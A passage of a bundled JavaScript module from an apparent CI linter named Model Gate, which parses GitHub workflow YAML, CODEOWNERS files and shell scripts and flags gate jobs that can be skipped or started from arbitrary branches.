export const id = 398;
export const ids = [398];
export const modules = {

/***/ 40398:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  zw: () => (/* reexport */ adviseOnSlices),
  hz: () => (/* reexport */ byPlace),
  E2: () => (/* reexport */ lintWorkflows),
  lD: () => (/* reexport */ ownerFiles),
  VL: () => (/* reexport */ ownershipOf),
  dr: () => (/* reexport */ staleWaivers)
});

// UNUSED EXPORTS: lintReference

;// CONCATENATED MODULE: ./src/setup/advise-on-slices.ts
/** Metrics that a fixed threshold moves from one honest retraining to the next. */
const thresholded = ['precision', 'recall', 'f1'];
const advise_on_slices_sliceThreshold = {
    id: 'slice-at-threshold',
    about: 'Precision, recall or F1 of a binary task limited in slices against the baseline. At a fixed threshold they differ between honest retrainings of the same model: with a tolerance of 0.03, recall blocked 47 to 91 % of them, accuracy 1 to 23 %, log loss up to 8 %. Advice: the exit code stays.',
    instead: '`accuracy` or `log-loss` in slices, with three times the overall tolerance and `severity: warn`.'
};
/** What a policy asks for and will be sorry for. */
function adviseOnSlices({ task, slices, source }, file) {
    if (task?.type !== 'binary')
        return [];
    return slices.flatMap(({ metrics }, index) => metrics.filter(isShaky).map(({ key, measure }) => ({
        file,
        key: `slices${Array.isArray(source['slices']) ? `[${index}]` : ''}.metrics.${key}`,
        rule: advise_on_slices_sliceThreshold.id,
        kind: 'advice',
        message: `${measure.kind === 'catalogue' ? measure.metric : key} at a fixed threshold differs in slices between honest retrainings, and will block some of them`,
        hint: 'Limit accuracy or log-loss in slices, with three times the overall tolerance and severity: warn'
    })));
}
function isShaky({ measure, severity, limits }) {
    const compared = limits.some(({ rule }) => rule !== 'min' && rule !== 'max');
    return measure.kind === 'catalogue' && thresholded.includes(measure.metric) && severity !== 'warn' && compared;
}

;// CONCATENATED MODULE: ./src/setup/code-owners.ts
/** Where GitHub looks for code owners, in its order. */
const ownerFiles = ['.github/CODEOWNERS', 'CODEOWNERS', 'docs/CODEOWNERS'];
/** GitHub reads no CODEOWNERS above 3 MB. */
const largest = 3_000_000;
/**
 * Who owns a file by a CODEOWNERS file: the last line that matches, by GitHub's rules. Lines that GitHub cannot read are skipped, as GitHub does.
 *
 * @example
 * ownershipOf('docs/a.md', '* @acme/all\n/docs/ @acme/writers') // => { owners: ['@acme/writers'], line: 2 }
 */
function ownershipOf(path, codeowners) {
    if (codeowners.length > largest)
        return { owners: [] };
    const lines = codeowners.split(/\r?\n/);
    for (let index = lines.length - 1; index >= 0; index -= 1) {
        const entry = entryOf(lines[index] ?? '');
        if (entry !== undefined && ownsPath(entry.pattern, path))
            return { owners: entry.owners, line: index + 1 };
    }
    return { owners: [] };
}
function entryOf(line) {
    // A space that belongs to the pattern is written "\ ".
    const [first = '', ...rest] = line
        .trim()
        .replaceAll('\\ ', '\0')
        .split(/[ \t]+/);
    const pattern = first.replaceAll('\0', ' ');
    if (pattern === '' || /^(#|!|\\#)/.test(pattern) || /[[\]]/.test(pattern))
        return undefined;
    const comment = rest.findIndex((word) => word.startsWith('#'));
    const owners = comment === -1 ? rest : rest.slice(0, comment);
    return owners.every(isOwner) ? { pattern, owners } : undefined;
}
/** `@user`, `@organisation/team` or an address. */
function isOwner(word) {
    return /^@[a-z\d][a-z\d_-]*(\/[\w.-]+)?$/i.test(word) || /^[^@\s]+@[^@\s]+$/.test(word);
}
/**
 * Whether a pattern of CODEOWNERS matches a file: as in .gitignore, but `docs/*` takes no file below a folder of `docs`.
 *
 * @example
 * ownsPath('apps/', 'lib/apps/a.py') // => true
 */
function ownsPath(pattern, path) {
    const segments = pattern.split('/');
    if (segments[0] === '')
        segments.shift();
    else if (segments.length === 1 || (segments.length === 2 && segments[1] === ''))
        segments.unshift('**');
    const last = segments.at(-1);
    if (last === '' || last === '**')
        segments.splice(-1, 1, '**', '*');
    const names = path.split('/');
    const below = last === '' || last === '*' || last === '**' ? [] : [[...segments, '**']];
    return [segments, ...below].some((pieces) => matchesAll(pieces, names, '**', (piece, name) => matchesAll([...piece], [...name], '*', sameMark)));
}
function sameMark(mark, character) {
    return mark === '?' || mark === character;
}
/** Whether pieces match items one by one, where `any` stands for any number of them. */
function matchesAll(pieces, items, any, same) {
    let [piece, item] = [0, 0];
    let retry;
    while (item < items.length) {
        if (pieces[piece] === any) {
            retry = [piece, item];
            piece += 1;
        }
        else if (piece < pieces.length && same(pieces[piece] ?? '', items[item] ?? '')) {
            piece += 1;
            item += 1;
        }
        else if (retry !== undefined) {
            retry = [retry[0], retry[1] + 1];
            piece = retry[0] + 1;
            item = retry[1];
        }
        else
            return false;
    }
    return pieces.slice(piece).every((left) => left === any);
}

;// CONCATENATED MODULE: ./src/setup/finding.ts
/** In the order in which files are read: by file, then by line. */
function byPlace(a, b) {
    const files = [a.file ?? '', b.file ?? ''];
    if (files[0] !== files[1])
        return files[0] < files[1] ? -1 : 1;
    return (a.line ?? 0) - (b.line ?? 0) || (a.column ?? 0) - (b.column ?? 0);
}

// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var dist = __webpack_require__(38815);
// EXTERNAL MODULE: ./src/documents/index.ts + 37 modules
var documents = __webpack_require__(37480);
// EXTERNAL MODULE: ./src/report/index.ts + 33 modules
var report = __webpack_require__(34428);
;// CONCATENATED MODULE: ./src/setup/quoted.ts


/**
 * Untrusted text in quotes, cut at 80 characters: all of it is seen, and GitHub's log takes no command from it.
 *
 * @example
 * quoted('a\nb') // => '"a\\nb"'
 */
function quoted(text) {
    return (0,report/* visibleText */.Q6)(JSON.stringify((0,documents/* cutText */.IN)(text, 80))).replaceAll('##[', '##\\u005b');
}

;// CONCATENATED MODULE: ./src/setup/read-tree.ts


/** Levels of a workflow that is read; the parser's stack also holds the document and the scalar at hand. */
const deepest = 50;
const deepestStack = deepest + 2;
/** Characters of a workflow that is read. */
const longest = 524_288;
/** Faults that are kept: a person mends the first of a thousand. */
const mostFaults = 100;
const refused = ': GitHub does not start this workflow';
/** Reads YAML as GitHub reads workflows: 1.2, anchors and aliases, no tags, no key twice. Never throws. */
function readTree(text) {
    const lines = new dist/* LineCounter */.HN();
    const placeOf = (offset) => {
        const { line, col } = lines.linePos(offset);
        return { line: Math.max(line, 1), column: Math.max(col, 1) };
    };
    if (text.length > longest)
        return { root: undefined, faults: [{ offset: 0, message: 'is longer than 512 KB and is not judged' }], placeOf };
    const tokens = tokensOf(text, lines);
    if (tokens === undefined) {
        return {
            root: undefined,
            faults: [{ offset: 0, message: `has more than ${deepest} levels and is not judged` }],
            placeOf
        };
    }
    const documents = composed(tokens, text.length);
    const errors = documents.flatMap(({ errors }) => errors);
    const faults = errors.slice(0, 1).map(({ pos: [offset], message }) => ({
        offset,
        message: `cannot be read as YAML: ${quoted(message.split(/[\r\n]/)[0] ?? '')}${refused}`
    }));
    if (documents.length > 1)
        faults.push({ offset: documents[1]?.range[0] ?? 0, message: `holds a second document${refused}` });
    const [document] = documents;
    if (document === undefined || faults.length > 0)
        return { root: undefined, faults, placeOf };
    const walk = {
        text,
        anchors: new Map(),
        fault: (offset, message) => {
            if (faults.length < mostFaults)
                faults.push({ offset, message: `${message}${refused}` });
        }
    };
    const root = treeOf(document.contents, 0, walk);
    return { root: faults.length > 0 ? undefined : root, faults, placeOf };
}
function tokensOf(text, lines) {
    const parser = new dist/* Parser */.iX(lines.addNewLine);
    const tokens = [];
    lines.addNewLine(0);
    for (const lexeme of new dist/* Lexer */.JG().lex(text)) {
        for (const token of parser.next(lexeme))
            tokens.push(token);
        if (parser.stack.length > deepestStack)
            return undefined;
    }
    for (const token of parser.end())
        tokens.push(token);
    return tokens;
}
function composed(tokens, length) {
    const composer = new dist/* Composer */.Dk({
        version: '1.2',
        schema: 'core',
        strict: true,
        uniqueKeys: false,
        merge: false,
        prettyErrors: false,
        logLevel: 'silent'
    });
    return [...composer.compose(tokens, true, length)];
}
const nothing = (offset) => ({ kind: 'text', text: '', offset, literal: false });
function treeOf(node, around, walk) {
    if ((0,dist/* isAlias */.Vj)(node))
        return aliased(node.source, node.range?.[0] ?? around, walk);
    if (!(0,dist/* isScalar */.jn)(node) && !(0,dist/* isSeq */.oP)(node) && !(0,dist/* isMap */.jh)(node))
        return nothing(around);
    const { tag, anchor, range } = node;
    const offset = range?.[0] ?? around;
    if (tag !== undefined && tag.startsWith('!')) {
        walk.fault(Math.max(walk.text.lastIndexOf('!', offset - 1), 0), `has the tag ${quoted(tag)}: text that begins with "!" must be quoted`);
    }
    const tree = inside(node, offset, walk);
    if (anchor !== undefined)
        walk.anchors.set(anchor, tree);
    return tree;
}
function inside(node, offset, walk) {
    if ((0,dist/* isSeq */.oP)(node))
        return { kind: 'list', offset, items: node.items.map((item) => treeOf(item, offset, walk)) };
    if ((0,dist/* isMap */.jh)(node))
        return { kind: 'map', offset, entries: entriesOf(node, offset, walk) };
    const { type, source = '', value } = node;
    const empty = type === 'PLAIN' && value === null;
    return { kind: 'text', text: empty ? '' : source, offset, literal: type === 'BLOCK_LITERAL' };
}
function aliased(name, offset, { anchors, fault }) {
    const tree = anchors.get(name);
    if (tree === undefined)
        fault(offset, `names the anchor ${quoted(name)}, which is not there`);
    return tree ?? nothing(offset);
}
function entriesOf(map, around, walk) {
    const entries = new Map();
    for (const { key, value } of map.items) {
        if (!(0,dist/* isScalar */.jn)(key) || (key.value === null && key.type === 'PLAIN')) {
            walk.fault(key?.range?.[0] ?? around, 'has a key that is no text');
            continue;
        }
        const keyOffset = key.range?.[0] ?? around;
        const name = key.source ?? '';
        const entry = { keyOffset, value: treeOf(value, keyOffset, walk) };
        if (entries.has(name))
            walk.fault(keyOffset, `has the key ${quoted(name)} twice`);
        else
            entries.set(name, entry);
    }
    return entries;
}

;// CONCATENATED MODULE: ./src/setup/shell-commands.ts
/**
 * The commands of a shell script, near enough to see what becomes of an exit code: quotes, comments, continued lines, here-documents and GitHub's
 * expressions are read over. Linear in the length; never throws.
 *
 * @example
 * shellCommands('model-gate run || true').map(({ words, after }) => [...words, after]) // => [['model-gate', 'run', '||'], ['true', ';']]
 */
function shellCommands(script) {
    const reader = new Reader(script);
    while (!reader.atEnd)
        reader.step();
    return reader.finished();
}
/** A short script of states: where the reader stands, and the command and word it is in. */
class Reader {
    script;
    position = 0;
    word;
    words = [];
    begin = 0;
    delimiters = [];
    commands = [];
    constructor(script) {
        this.script = script;
    }
    get atEnd() {
        return this.position >= this.script.length;
    }
    step() {
        const { script, position } = this;
        const mark = script[position] ?? '';
        if (mark === '\n')
            this.endLine();
        else if (/\s/.test(mark))
            this.endWord(1);
        else if (mark === '#' && this.word === undefined)
            this.position = this.until('\n', position);
        else if (mark === '\\')
            this.escaped();
        else if (mark === "'" || mark === '"')
            this.inQuotes(mark);
        else if (script.startsWith('${{', position))
            this.take(this.until('}}', position) + 2);
        else if (script.startsWith('<<', position))
            this.hereDocument();
        else
            this.separatorOrText(mark);
    }
    finished() {
        this.endCommand(';', 0);
        return this.commands.filter(({ words }, index) => words.length > 0 || this.commands[index - 1]?.after === ')');
    }
    separatorOrText(mark) {
        const two = this.script.slice(this.position, this.position + 2);
        const redirected = /[<>]/.test(this.script[this.position - 1] ?? '') || two === '&>';
        if (two === '&&' || two === '||')
            this.endCommand(two, 2);
        else if (two === '|&')
            this.endCommand('|', 2);
        else if (mark === '&' && redirected)
            this.take(this.position + 1);
        else if (mark === '|' || mark === ';' || mark === '&' || mark === '(' || mark === ')')
            this.endCommand(mark, 1);
        else
            this.take(this.position + 1);
    }
    /** Adds the script up to `end` to the word. */
    take(end) {
        this.add(this.script.slice(this.position, end));
        this.position = Math.min(end, this.script.length);
    }
    add(text) {
        if (this.word === undefined && this.words.length === 0)
            this.begin = this.position;
        this.word = (this.word ?? '') + text;
    }
    until(mark, from) {
        const found = this.script.indexOf(mark, from);
        return found === -1 ? this.script.length : found;
    }
    escaped() {
        const line = /^\\\r?\n/.exec(this.script.slice(this.position, this.position + 3));
        if (line === null)
            this.add(this.script[this.position + 1] ?? '');
        this.position += line?.[0].length ?? 2;
    }
    inQuotes(mark) {
        let end = this.until(mark, this.position + 1);
        while (mark === '"' && this.script[end - 1] === '\\' && end < this.script.length)
            end = this.until(mark, end + 1);
        this.add(this.script.slice(this.position + 1, end));
        this.position = end + 1;
    }
    hereDocument() {
        const found = /^<<-?\s*(['"]?)([\w.-]+)\1/.exec(this.script.slice(this.position, this.position + 80));
        if (found?.[2] !== undefined)
            this.delimiters.push(found[2]);
        this.take(this.position + (found?.[0].length ?? 2));
    }
    endLine() {
        this.endCommand(';', 1);
        for (const delimiter of this.delimiters.splice(0)) {
            while (!this.atEnd) {
                const end = this.until('\n', this.position);
                const line = this.script.slice(this.position, end).trim();
                this.position = end + 1;
                if (line === delimiter)
                    break;
            }
        }
    }
    endWord(length) {
        if (this.word !== undefined)
            this.words.push(this.word);
        this.word = undefined;
        this.position += length;
    }
    endCommand(after, length) {
        this.endWord(length);
        this.commands.push({ words: this.words, offset: this.begin, after });
        this.words = [];
    }
}

;// CONCATENATED MODULE: ./src/setup/model-gate-use.ts

/** Parts of Model Gate, as actions and as commands. `run` is the root action: all in one step. */
const parts = [
    'run',
    'evaluate',
    'baseline',
    'compare',
    'drift',
    'inspect',
    'report',
    'gate',
    'promote',
    'monitor'
];
/** Longer names are nobody's. */
const longestName = 300;
/**
 * Takes a `uses:` apart.
 *
 * @example
 * actionReference('actions/cache/restore@v4') // => { repository: 'actions/cache', path: 'restore', ref: 'v4' }
 */
function actionReference(text) {
    const at = text.lastIndexOf('@');
    const [whole, ref] = at === -1 ? [text, ''] : [text.slice(0, at), text.slice(at + 1)];
    if (/^(\.|docker:)/.test(whole))
        return { repository: '', path: whole, ref };
    const [owner = '', name = '', ...path] = whole.split('/');
    return { repository: `${owner}/${name}`, path: path.join('/'), ref };
}
/** Whether an action is Model Gate's, whoever publishes it. */
function isModelGate({ repository }) {
    return /\/model-gate$/i.test(repository);
}
/** The part that a `uses:` starts: ours, a checkout of ours (`./model-gate/actions/gate`), or `./` in our own repository. */
function partOfAction(uses, ours) {
    if (uses.length > longestName)
        return undefined;
    const reference = actionReference(uses);
    if (isModelGate(reference))
        return partAt(reference.path);
    if (!uses.startsWith('./'))
        return undefined;
    const checkedOut = /^\.\/(?:.*\/)?model-gate(?:\/(.*))?$/i.exec(uses);
    if (checkedOut !== null)
        return partAt(checkedOut[1] ?? '');
    return ours ? partAt(uses.slice(2)) : undefined;
}
function partAt(path) {
    const folder = path.endsWith('/') ? path.slice(0, -1) : path;
    if (folder === '')
        return 'run';
    return parts.find((part) => part !== 'run' && folder === `actions/${part}`);
}
/** What a script starts. */
function usesInScript(script, ours) {
    if (!script.includes('model-gate') && !(ours && script.includes('dist/cli.js')))
        return [];
    const commands = shellCommands(script);
    return commands.flatMap(({ words }, index) => {
        const part = partOfCommand(words, ours);
        return part === undefined ? [] : [{ how: 'command', part, commands, index }];
    });
}
/** Commands whose arguments are not started. */
const talkers = new Set(['echo', 'printf', 'cat', 'grep', 'git', ':']);
function partOfCommand(words, ours) {
    if (talkers.has(words[0] ?? ''))
        return undefined;
    const index = words.findIndex((word, position) => startsModelGate(word, ours) && isPart(words[position + 1]));
    return index === -1 ? undefined : words[index + 1];
}
function isPart(word) {
    return parts.includes(word);
}
/** `model-gate`, `./node_modules/.bin/model-gate`, `model-gate@1`, `github:acme/model-gate#v1`, `model-gate/dist/cli.js`. */
function startsModelGate(word, ours) {
    if (word.length > longestName)
        return false;
    const path = word.replaceAll('\\', '/');
    if (ours && /^(\.\/)?dist\/cli\.js$/.test(path))
        return true;
    const name = path.endsWith('/dist/cli.js') ? path.slice(0, -'/dist/cli.js'.length) : path;
    return (/^model-gate(\.cmd)?([@#].*)?$/.test(name.slice(name.lastIndexOf('/') + 1)) || /[/:]model-gate#[^/]*$/.test(name));
}

;// CONCATENATED MODULE: ./src/setup/permissions.ts
/** Reads `permissions:`; what it does not name it does not grant. */
function permissionsOf(entry) {
    if (entry === undefined)
        return undefined;
    const { keyOffset: offset, value } = entry;
    if (value.kind !== 'map')
        return { offset, all: value.kind === 'text' ? allOf(value.text) : undefined, scopes: new Map() };
    const scopes = [...value.entries].map(([name, scope]) => [name, { offset: scope.keyOffset, level: levelOf(scope.value) }]);
    return { offset, all: undefined, scopes: new Map(scopes) };
}
function allOf(text) {
    return { 'read-all': 'read', 'write-all': 'write' }[text];
}
function levelOf(value) {
    const text = value.kind === 'text' ? value.text : '';
    return text === 'read' || text === 'write' ? text : 'none';
}
/** Whether a scope is granted at a level or above it. */
function grants({ all, scopes }, scope, level) {
    const has = all ?? scopes.get(scope)?.level ?? 'none';
    return has === 'write' || has === level;
}
/** What may be written: names of scopes with their places; `write-all` is one of them. */
function writable({ all, scopes, offset }) {
    if (all === 'write')
        return [{ scope: 'write-all', offset }];
    return [...scopes].filter(([, { level }]) => level === 'write').map(([scope, at]) => ({ scope, offset: at.offset }));
}

;// CONCATENATED MODULE: ./src/setup/tree.ts
/** The entry of a key; undefined where the node is no map or lacks it. */
function tree_entryOf(tree, key) {
    return tree?.kind === 'map' ? tree.entries.get(key) : undefined;
}
/** The text under a key. */
function textAt(tree, key) {
    const value = tree_entryOf(tree, key)?.value;
    return value?.kind === 'text' ? value : undefined;
}
/** The texts of a list, or the one text: GitHub takes either in most places. */
function textsOf(tree) {
    if (tree === undefined || tree.kind === 'map')
        return [];
    const items = tree.kind === 'list' ? tree.items : [tree];
    return items.filter((item) => item.kind === 'text' && item.text !== '');
}
/**
 * Offset in the file of a character of a text: exact in literal blocks and in text of one line, else the text's beginning.
 *
 * @param index of the character in the content
 */
function offsetWithin(source, { text, offset, literal }, index) {
    if (literal)
        return offsetInBlock(source, offset, text.slice(0, index)) ?? offset;
    const begin = text !== '' && source.startsWith(text, offset + 1) ? offset + 1 : offset;
    return source.startsWith(text, begin) ? begin + index : offset;
}
function offsetInBlock(source, header, before) {
    let line = source.indexOf('\n', header) + 1;
    const lines = before.split('\n');
    for (let skipped = 1; skipped < lines.length && line > 0; skipped += 1)
        line = source.indexOf('\n', line) + 1;
    if (line === 0)
        return undefined;
    const end = source.indexOf('\n', line);
    const written = source.slice(line, end === -1 ? undefined : end);
    return line + written.length - written.trimStart().length + (lines.at(-1) ?? '').trimStart().length;
}

;// CONCATENATED MODULE: ./src/setup/read-workflow.ts



/** Jobs, steps and needs of a workflow that is judged, and characters of its scripts: aliases can make a small file endless. */
const most = { parts: 4000, script: 4_194_304 };
/** How often a workflow that is judged starts Model Gate: each is looked at with all commands around it. */
const mostStarts = 1000;
/** The workflow that a tree describes; undefined where it is larger than any that GitHub runs. */
function workflowOf(root, { path, text, placeOf, ours }) {
    const jobs = tree_entryOf(root, 'jobs')?.value;
    if (isEndless(jobs))
        return undefined;
    const on = tree_entryOf(root, 'on');
    const of = { ours, folder: defaultOf(root, 'working-directory') };
    const read = jobs?.kind === 'map' ? [...jobs.entries].map(([id, entry]) => jobOf(id, entry, of)) : [];
    if (read.flatMap(({ steps }) => steps).flatMap(({ starts }) => starts).length > mostStarts)
        return undefined;
    return {
        path,
        source: text,
        placeOf,
        onOffset: on?.keyOffset ?? root.offset,
        triggers: triggersOf(on),
        permissions: permissionsOf(tree_entryOf(root, 'permissions')),
        shell: defaultOf(root, 'shell'),
        jobs: read,
        jobsById: new Map(read.map((job) => [job.id, job]))
    };
}
function isEndless(jobs) {
    const left = { ...most };
    for (const { value } of jobs?.kind === 'map' ? jobs.entries.values() : []) {
        const steps = stepsIn(value);
        left.parts -= 1 + steps.length + textsOf(tree_entryOf(value, 'needs')?.value).length;
        if (left.parts < 0)
            return true;
        for (const step of steps)
            left.script -= textAt(step, 'run')?.text.length ?? 0;
        if (left.script < 0)
            return true;
    }
    return false;
}
function stepsIn(job) {
    const steps = tree_entryOf(job, 'steps')?.value;
    return steps?.kind === 'list' ? steps.items : [];
}
function triggersOf(on) {
    if (on?.value.kind === 'map') {
        return new Map([...on.value.entries].map(([name, { keyOffset, value }]) => [name, { offset: keyOffset, filters: value }]));
    }
    return new Map(textsOf(on?.value).map(({ text, offset }) => [text, { offset, filters: undefined }]));
}
function defaultOf(tree, key) {
    return textAt(tree_entryOf(tree_entryOf(tree, 'defaults')?.value, 'run')?.value, key)?.text;
}
function jobOf(id, { keyOffset, value }, { ours, folder }) {
    const name = textAt(value, 'name');
    const strategy = tree_entryOf(value, 'strategy');
    return {
        id,
        offset: keyOffset,
        checkName: name === undefined || name.text === '' ? id : withLiterals(name.text),
        nameOffset: name?.offset ?? keyOffset,
        condition: textAt(value, 'if'),
        needs: textsOf(tree_entryOf(value, 'needs')?.value).map(({ text }) => text),
        permissions: permissionsOf(tree_entryOf(value, 'permissions')),
        continueOnError: textAt(value, 'continue-on-error'),
        matrixOffset: tree_entryOf(strategy?.value, 'matrix') && strategy?.keyOffset,
        runsOn: textsOf(tree_entryOf(value, 'runs-on')?.value).map(({ text }) => text),
        calls: textAt(value, 'uses'),
        shell: defaultOf(value, 'shell'),
        steps: stepsIn(value).map((step) => stepOf(step, { ours, folder: defaultOf(value, 'working-directory') ?? folder }))
    };
}
/** GitHub puts text that stands in an expression in its place. */
function withLiterals(name) {
    return name.replace(/\$\{\{\s*'((?:[^']|'')*)'\s*\}\}/g, (_, text) => text.replaceAll("''", "'"));
}
function stepOf(step, { ours, folder }) {
    const uses = textAt(step, 'uses');
    const run = textAt(step, 'run');
    const given = tree_entryOf(step, 'with')?.value;
    const part = uses && partOfAction(uses.text, ours);
    const started = part === undefined ? [] : [{ how: 'action', part }];
    return {
        offset: step.offset,
        uses,
        run,
        shell: textAt(step, 'shell')?.text,
        folder: textAt(step, 'working-directory')?.text ?? folder,
        condition: textAt(step, 'if'),
        continueOnError: textAt(step, 'continue-on-error'),
        inputs: new Map(given?.kind === 'map' ? [...given.entries].map(([key, entry]) => [key.toLowerCase(), entry]) : []),
        starts: [...started, ...(run === undefined ? [] : usesInScript(run.text, ours))]
    };
}

;// CONCATENATED MODULE: ./src/setup/workflow.ts

/** Name that users make a required check. */
const requiredName = 'model-gate';
/** Whether its check is the required one: a matrix and a called workflow change the name. */
function isRequired(job) {
    return job.checkName === requiredName;
}
/** Whether a step decides by its exit code. */
function decidesIn({ starts }) {
    return starts.some(({ part }) => part === 'run' || part === 'gate');
}
function isCheckout({ uses }) {
    return uses !== undefined && actionReference(uses.text).repository.toLowerCase() === 'actions/checkout';
}
/** Whether a job starts the candidate's code: code that the pull request wrote. */
function runsCandidate({ steps }) {
    return steps.some(({ starts }) => starts.some(({ part }) => part === 'run' || part === 'evaluate'));
}
/** The jobs that a job waits for, directly and through others. */
function neededBy(job, { jobsById }) {
    const found = new Set();
    const waiting = [...job.needs];
    for (let id = waiting.pop(); id !== undefined; id = waiting.pop()) {
        const needed = jobsById.get(id);
        if (needed === undefined || needed === job || found.has(needed))
            continue;
        found.add(needed);
        waiting.push(...needed.needs);
    }
    return [...found];
}

;// CONCATENATED MODULE: ./src/setup/repository.ts


/** Events that start a workflow for a pull request. */
const pullRequestEvents = ['pull_request', 'pull_request_target', 'merge_group'];
function isOfPullRequests({ triggers }) {
    return pullRequestEvents.some((event) => triggers.has(event));
}
/** Whether a job decides, itself or through the workflow of this repository that it calls. */
function decides(job, repository) {
    return job.steps.some(decidesIn) || callsGate(job, repository);
}
/** Whether the workflow that a job calls decides: ours, one here with a gate, or one elsewhere that is to give the required check. */
function callsGate({ calls, checkName }, { workflows }) {
    if (calls === undefined)
        return false;
    if (!calls.text.startsWith('./'))
        return isModelGate(actionReference(calls.text)) || checkName === 'model-gate';
    const called = workflows.find(({ path }) => `./${path}` === calls.text);
    return called?.jobs.some(({ steps }) => steps.some(decidesIn)) === true;
}
/** Workflows that use Model Gate, whatever starts them. */
function usersOfModelGate(repository) {
    return repository.workflows.filter(({ jobs }) => jobs.some((job) => job.steps.some(({ starts }) => starts.length > 0) || callsGate(job, repository)));
}
/** Workflows that use Model Gate and are started by pull requests. */
function gateWorkflows(repository) {
    return usersOfModelGate(repository).filter(isOfPullRequests);
}
/** The same, and those that tell of pull requests when the runs of these have ended. */
function gatesAndCompanions(repository) {
    return usersOfModelGate(repository).filter((workflow) => isOfPullRequests(workflow) || workflow.triggers.has('workflow_run'));
}
/** Workflows that a system outside dispatches for a commit, and that tell its pull request by a status. */
function dispatchedGates(repository) {
    return usersOfModelGate(repository).filter(({ jobs }) => jobs.some(({ steps }) => steps.some((step) => decidesIn(step) && step.inputs.has('sha') && step.inputs.has('status-context'))));
}
/** Jobs with the last word: those of the required name, and those that decide and that none of these waits for. */
function finalJobs(workflow, repository) {
    const required = workflow.jobs.filter(isRequired);
    const covered = new Set(required.flatMap((job) => neededBy(job, workflow)));
    return workflow.jobs.filter((job) => isRequired(job) || (decides(job, repository) && !covered.has(job)));
}

;// CONCATENATED MODULE: ./src/setup/rule.ts

/** Looks through the workflows that pull requests start, or through those that `among` picks. */
function inWorkflows(faultsOf, among = gateWorkflows) {
    return (repository) => among(repository).flatMap((workflow) => faultsOf(workflow, repository).map(({ offset, message, hint }) => ({
        file: workflow.path,
        ...workflow.placeOf(offset),
        message,
        hint
    })));
}

;// CONCATENATED MODULE: ./src/setup/rules/any-branch.ts





const green = 'the commit is judged by its own policy, and its green check counts for a pull request of the same commit';
const anyBranch = {
    id: 'any-branch',
    about: 'A job `model-gate` that `push` starts on any branch or tag, or on a pattern of branches, or `workflow_dispatch` without the input `sha`. A check is of a commit: whoever may push a branch, or dispatch one, has it judged by the policy that stands on it, and the green check counts for the pull request of that commit.',
    instead: '`push: { branches: [main] }`, without `tags`; under `workflow_dispatch` the input [`sha`](dispatch.md) on the step that decides, or a job of another name.',
    find: inWorkflows((workflow) => {
        if (!workflow.jobs.some(isRequired))
            return [];
        const { triggers } = workflow;
        const [push, dispatch] = [triggers.get('push'), triggers.get('workflow_dispatch')];
        return [
            ...(push !== undefined && startsAnywhere(push)
                ? [
                    {
                        offset: push.offset,
                        message: `"push" starts the job ${quoted('model-gate')} on branches or tags that anybody pushes: ${green}`,
                        hint: 'Name the branches whose rules protect them, and no tags: push: { branches: [main] }'
                    }
                ]
                : []),
            ...(dispatch !== undefined && !namesCommit(workflow)
                ? [
                    {
                        offset: dispatch.offset,
                        message: `"workflow_dispatch" starts the job ${quoted('model-gate')} on any branch, and no input "sha" says which commit is judged`,
                        hint: 'Give the step that decides the input sha, or leave workflow_dispatch out'
                    }
                ]
                : [])
        ];
    }, usersOfModelGate)
};
/**
 * Without `branches` every push does; `tags` are protected by no rule of a branch. A pattern stands for branches that there are not yet, and whoever may
 * push makes one: only names say which branches are meant.
 */
function startsAnywhere({ filters }) {
    const branches = tree_entryOf(filters, 'branches');
    if (branches === undefined || ['tags', 'tags-ignore'].some((key) => tree_entryOf(filters, key) !== undefined))
        return true;
    return textsOf(branches.value).some(({ text }) => !text.startsWith('!') && /[*?+[]/.test(text));
}
function namesCommit({ jobs }) {
    const deciding = jobs.flatMap(({ steps }) => steps.filter(decidesIn));
    return deciding.length > 0 && deciding.every(({ inputs }) => inputs.has('sha'));
}

;// CONCATENATED MODULE: ./src/setup/expression.ts
/**
 * The expressions in a text, with the place of each.
 *
 * @example
 * expressionsIn('echo ${{ github.sha }}') // => [{ expression: ' github.sha ', index: 5 }]
 */
function expressionsIn(text) {
    const found = [];
    let end = 0;
    for (let index = text.indexOf('${{'); index !== -1; index = text.indexOf('${{', end)) {
        end = text.indexOf('}}', index);
        if (end === -1)
            break;
        found.push({ expression: text.slice(index + 3, end), index });
    }
    return found;
}
/**
 * An expression without its brackets, spaces and capitals: GitHub does not mind them.
 *
 * @example
 * bareExpression('${{ toJSON( needs ) }}') // => 'tojson(needs)'
 */
function bareExpression(text) {
    return text
        .replace(/\s/g, '')
        .replace(/^\$\{\{/, '')
        .replace(/\}\}$/, '')
        .toLowerCase();
}

;// CONCATENATED MODULE: ./src/setup/final-jobs.ts


/** Looks at each job that has the last word. */
function inFinalJobs(faultOf) {
    return inWorkflows((workflow, repository) => finalJobs(workflow, repository).flatMap((job) => {
        const fault = faultOf(job);
        return fault === undefined ? [] : [fault];
    }));
}

;// CONCATENATED MODULE: ./src/setup/rules/conditions.ts





const hint = 'Write if: ${{ always() }}';
const passes = 'and a skipped job passes a required check';
function isAlways({ condition }) {
    return bareExpression(condition?.text ?? '') === 'always()';
}
function asksCancelled({ condition }) {
    return /!cancelled\(\)/.test(bareExpression(condition?.text ?? ''));
}
const jobCondition = {
    id: 'job-condition',
    about: '`if:` on the gate job that is not `always()`. Where it is false the job is skipped, and GitHub takes a skipped job for a success: the pull request may be merged unjudged.',
    instead: '`if: ${{ always() }}` on a job with `needs`, no `if` on one without.',
    find: inFinalJobs((job) => {
        const { condition, needs, id } = job;
        if (condition === undefined || condition.text === '' || isAlways(job) || asksCancelled(job))
            return undefined;
        return {
            offset: condition.offset,
            message: `job ${quoted(id)} is skipped where ${quoted(condition.text)} is false, ${passes}`,
            hint: needs.length > 0 ? hint : 'Leave "if" out'
        };
    })
};
const neededFailure = {
    id: 'needs-without-always',
    about: 'A gate job with `needs` and without `if: ${{ always() }}`. When a job that it needs fails, the gate is skipped, and GitHub takes a skipped job for a success: a failed evaluation merges.',
    instead: '`if: ${{ always() }}`; the gate itself fails on what did not succeed.',
    find: inFinalJobs(({ id, needs, offset, condition }) => {
        if (needs.length === 0 || (condition !== undefined && condition.text !== ''))
            return undefined;
        return {
            offset,
            message: `job ${quoted(id)} is skipped when a job that it needs fails, ${passes}`,
            hint
        };
    })
};
const cancelledGate = {
    id: 'skipped-when-cancelled',
    about: '`if: ${{ !cancelled() }}` on the gate job. A run that is cancelled skips the job, and GitHub takes a skipped job for a success: whoever may cancel a run may merge.',
    instead: '`if: ${{ always() }}`.',
